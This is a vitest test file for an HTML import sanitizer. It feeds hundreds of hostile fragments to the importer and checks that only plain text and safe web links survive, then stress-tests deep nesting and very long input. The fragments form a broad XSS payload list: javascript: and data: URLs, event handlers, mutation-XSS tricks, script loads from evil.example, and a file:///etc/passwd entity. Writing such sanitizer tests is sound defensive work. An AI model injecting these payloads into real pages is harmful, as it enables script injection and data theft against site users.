import { expect, test } from 'vitest';
import type { ImportedText, Result } from '#lib/studio/texts/imported-text.ts';
import { readPage, readPasted } from './read-html.ts';

/** Every way that a script may be called for. */
const CALLS = ['alert(1)', 'import("//evil.example/x.js")'];
const HANDLERS = [
	...[
		'onclick',
		'onload',
		'onerror',
		'onfocus',
		'onmouseover',
		'onanimationstart',
		'ontoggle',
		'onbegin'
	],
	...[
		'onpointerrawupdate',
		'onbeforeinput',
		'onscrollend',
		'onwebkittransitionend',
		'ONCLICK',
		'on\u0000click'
	]
];
const ELEMENTS = [
	...[
		'p',
		'a',
		'b',
		'div',
		'span',
		'img',
		'svg',
		'math',
		'body',
		'video',
		'audio',
		'details',
		'marquee'
	],
	...[
		'input',
		'form',
		'button',
		'select',
		'textarea',
		'iframe',
		'object',
		'table',
		'x-y',
		'o:p',
		'isindex'
	]
];
const ADDRESSES = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	' \u0001javascript:alert(1)',
	'java\tscript:alert(1)',
	'java\nscript:alert(1)',
	'&#106;avascript:alert(1)',
	'javascript&colon;alert(1)',
	'javascript://example.org/%0aalert(1)',
	'data:text/html,<script>alert(1)</script>',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'vbscript:msgbox(1)',
	'livescript:alert(1)',
	'blob:https://example.org/1',
	'file:///etc/passwd',
	'view-source:https://example.org',
	'intent://example.org#Intent;end',
	'ftp://example.org',
	'mailto:a@example.org',
	'tel:117',
	'//evil.example',
	'/relative',
	'https://user:password@example.org',
	'https://',
	'http://[::1',
	'https://www.google.com/url?q=javascript:alert(1)'
];
const LINK_PLACES: ((address: string) => string)[] = [
	(address) => `<a href="${address}">Text</a>`,
	(address) => `<area href="${address}">Text`,
	(address) => `<svg><a xlink:href="${address}"><text>Text</text></a></svg>Text`,
	(address) => `<math href="${address}">Text</math>Text`,
	(address) => `<form action="${address}"><button formaction="${address}">x</button></form>Text`,
	(address) => `<iframe src="${address}"></iframe>Text`,
	(address) => `<a href="${address}"><b>Text`
];
const DOCUMENTS = [
	'<script>alert(1)</script>Text',
	'<script src=//evil.example/x.js></script>Text',
	'<ScRiPt >alert(1)</sCrIpT >Text',
	'<script/x>alert(1)</script/x>Text',
	'<<script>alert(1);//<</script>Text',
	'<script>alert(1)<!--',
	'<scr<script>ipt>alert(1)</scr</script>ipt>Text',
	'<style>@import "//evil.example/x.css";</style>Text',
	'<style><img src=x onerror=alert(1)></style>Text',
	'<p style="background:url(//evil.example/x)">Text</p>',
	'<p style="width:expression(alert(1))">Text</p>',
	'<p style="behavior:url(#default#time2)">Text</p>',
	'<link rel=stylesheet href=//evil.example/x.css>Text',
	'<link rel=preload as=script href=//evil.example/x.js>Text',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">Text',
	'<meta http-equiv=Content-Security-Policy content="script-src *">Text',
	'<base href="javascript:alert(1)//"><a href="x">Text</a>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>Text',
	'<object data="data:text/html,<script>alert(1)</script>"></object>Text',
	'<embed src="javascript:alert(1)">Text',
	'<applet code=x></applet>Text',
	'<svg><script>alert(1)</script></svg>Text',
	'<svg><style><img src=x onerror=alert(1)></style></svg>Text',
	'<svg><animate onbegin=alert(1) attributeName=x></svg>Text',
	'<svg><foreignObject><script>alert(1)</script></foreignObject></svg>Text',
	'<svg><set attributeName=href to=javascript:alert(1)></svg>Text',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">Text',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">Text',
	'<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>Text',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>Text',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">Text',
	'<template><script>alert(1)</script></template>Text',
	'<template shadowrootmode=open><script>alert(1)</script></template>Text',
	'<textarea><script>alert(1)</script></textarea>Text',
	'<title><script>alert(1)</script></title>Text',
	'<xmp><script>alert(1)</script></xmp>Text',
	'<noembed><script>alert(1)</script></noembed>Text',
	'<noframes><script>alert(1)</script></noframes>Text',
	'<plaintext><script>alert(1)</script>',
	'<!--><script>alert(1)</script>-->Text',
	'<!--[if IE]><script>alert(1)</script><![endif]-->Text',
	'<!--[if !IE]><!--><script>alert(1)</script><!--<![endif]-->Text',
	'<![CDATA[<script>alert(1)</script>]]>Text',
	'<?xml-stylesheet href="javascript:alert(1)"?>Text',
	'<?php echo 1 ?>Text',
	'<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;Text',
	'<!ENTITY % x SYSTEM "file:///etc/passwd">%x;Text',
	'<xml id=x><![CDATA[<script>]]></xml>Text',
	'<img src=x onerror=alert(1)//Text',
	'<img """><script>alert(1)</script>">Text',
	"<a href='https://example.org' onclick='alert(1)'>Text</a>",
	'<a href="https://example.org" ping="//evil.example" target=_top download>Text</a>',
	'<video src=x poster=javascript:alert(1)><source onerror=alert(1)></video>Text',
	'<details open ontoggle=alert(1)>Text',
	'<input autofocus onfocus=alert(1)>Text',
	'<dialog open onclose=alert(1)>x</dialog>Text',
	'<p hidden>versteckt</p>Text',
	'<p style="DISPLAY : NONE">versteckt</p>Text',
	'<p __proto__=x constructor=y>Text</p>',
	'<__proto__>Text</__proto__>',
	'<p class="__proto__" style="font-weight:__proto__">Text</p>',
	'<p id="docs-internal-guid" style=\'mso-list:l0 level1 lfo1\'><span style="mso-list:Ignore"><script>alert(1)</script>1.</span>Text',
	'<a href="https://example.org/\ud800">Text</a>',
	'<p>\ud800Text\udfff</p>',
	'<p>\u0000Te\u0000xt</p>',
	'<p>Text&#0;&#xD800;&#x110000;&#x80;&notanentity;</p>',
	'<p>\u202eText\u202c \u200b \ufeff</p>',
	'<',
	'Text<',
	'Text</',
	'Text<!',
	'Text<!-',
	'Text<p x=',
	'Text<p x="',
	'Text&',
	'Text&#',
	'Text&#x',
	'<p'.repeat(50),
	'</p>'.repeat(50),
	'<a href="https://example.org">'.repeat(50) + 'Text'
];
const FRAGMENTS = [
	...HANDLERS.flatMap((handler) => CALLS.map((call) => `<p ${handler}='${call}'>Text</p>`)),
	...ELEMENTS.flatMap((element) => [
		`<${element} onclick=alert(1) style="color:red" src=//evil.example/x>Text</${element}>Text`,
		`<${element}/onload=alert(1)//><script>alert(1)</script></${element}>Text`
	]),
	...ADDRESSES.flatMap((address) => LINK_PLACES.map((place) => place(address))),
	...DOCUMENTS
];

/** Nothing but words, looks and addresses of the web. */
function expectHarmless(result: Result<ImportedText>): void {
	if (!result.ok) {
		expect(['no-text', 'nesting']).toContain(result.problem.rule);
		return;
	}
	const { blocks, proposals } = result.value;
	for (const block of blocks) {
		const { kind, runs, ...rest } = block;
		expect(['heading', 'paragraph', 'quotation', 'item', 'caption']).toContain(kind);
		for (const [name, value] of Object.entries(rest)) {
			expect(['id', 'depth', 'ordered']).toContain(name);
			expect(String(value)).toMatch(/^(p\d+|[1-4]|true|false)$/);
		}
		for (const { text, emphasis, strong, href, ...nothing } of runs) {
			expect(nothing).toEqual({});
			expect([undefined, true]).toContain(emphasis);
			expect([undefined, true]).toContain(strong);
			expect(text.isWellFormed()).toBe(true);
			// eslint-disable-next-line no-control-regex -- none is left
			expect(text).not.toMatch(/[\u0000-\u0008\u000e-\u001f]/);
			if (href === undefined) continue;
			const url = new URL(href);
			expect(['http:', 'https:']).toContain(url.protocol);
			expect([url.username, url.password]).toEqual(['', '']);
		}
	}
	for (const [field, { value }] of Object.entries(proposals)) {
		if (field === 'url') expect(new URL(value).protocol).toMatch(/^https?:$/);
		if (field === 'published') expect(value).toMatch(/^\d{4}-\d\d-\d\d$/);
	}
}

test('there are enough of them', () => {
	expect(new Set(FRAGMENTS).size).toBeGreaterThanOrEqual(300);
});

test.for(FRAGMENTS)('pasted: %s', (html) => {
	expectHarmless(readPasted(html));
	const beside = readPasted(`<p>Davor</p><div>${html}</div>`);
	expectHarmless(beside);
	expect(beside.ok && beside.value.blocks[0]?.runs).toEqual([{ text: 'Davor' }]);
});

const SENTENCE = 'Die Gemeindeversammlung beschloss im Frühjahr, eine Pendelbahn zu bauen. ';
test('in saved pages', async () => {
	for (const html of FRAGMENTS) {
		const body = `<article><p>${SENTENCE.repeat(5)}</p>${html}<p>${SENTENCE.repeat(5)}</p></article>`;
		expectHarmless(
			await readPage(`<!doctype html><title>${html}</title>${html}${body}`, [], () => undefined)
		);
	}
});

test.for<[string, string, string | undefined]>([
	['deep elements', `${'<div>'.repeat(10_000)}Text`, 'nesting'],
	['fairly deep elements', `${'<div>'.repeat(3000)}Text${'</div>'.repeat(3000)}<p>Ende`, undefined],
	['deep looks', `${'<b><i>'.repeat(1500)}Text`, undefined],
	['deep quotations', `${'<blockquote>'.repeat(50_000)}Text`, 'nesting'],
	['deep tables', `${'<table><tr><td>'.repeat(20_000)}Text`, 'nesting'],
	['deep pictures', `${'<svg><g>'.repeat(20_000)}Text`, 'nesting'],
	['many closing tags', `Text${'</p></b></q>'.repeat(40_000)}`, undefined],
	['many crossed looks', '<b><i></b></i>'.repeat(20_000) + 'Text', undefined],
	[
		'many attributes',
		`<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=1`).join(' ')}>Text`,
		undefined
	],
	['one long word', 'a'.repeat(1_900_000), undefined],
	['one long line', 'ein Wort '.repeat(200_000), undefined],
	['too long', 'ein Wort '.repeat(250_000), 'text-too-long'],
	['a long style', `<p style="${'font-weight:'.repeat(200_000)}">Text`, undefined],
	['a long address', `<a href="https://example.org/${'a'.repeat(1_000_000)}">Text</a>`, undefined],
	['many breaks', `Text${'<br>'.repeat(50_000)}Ende`, undefined],
	['many lines', 'Text<br>'.repeat(50_000), undefined],
	['many spaces', `Text${' '.repeat(1_000_000)}Ende`, undefined]
])('%s', async ([, html, rule]) => {
	for (const result of [
		readPasted(html),
		await readPage(`<title>x</title>${html}`, [], () => undefined)
	]) {
		expect(result.ok ? undefined : result.problem.rule).toBe(rule);
		if (result.ok) expect(JSON.stringify(result.value.blocks)).toMatch(/Text|Wort|aaa/);
	}
});
